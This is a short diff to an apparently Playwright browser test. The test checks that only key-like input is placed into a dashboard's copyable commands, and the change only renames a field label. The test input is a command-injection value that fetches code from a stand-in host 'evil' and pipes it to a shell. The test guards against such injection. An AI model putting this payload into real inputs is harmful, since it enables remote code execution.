@@ -234,7 +234,7 @@ test('only what looks like a key is put into the commands to copy', async () => 
   const { page } = board
   const payload = 'abcd";curl evil|sh;"wxyz'
   await page.getByText('YOUR_RELAY_API_KEY').first().waitFor()
-  await page.getByLabel('Key, to fill in below').fill(payload)
+  await page.getByLabel('Key, to fill it in').fill(payload)
   expect(await page.locator('pre').first().innerText()).toContain('YOUR_RELAY_API_KEY')
   expect(page.url()).not.toContain('curl')
 })
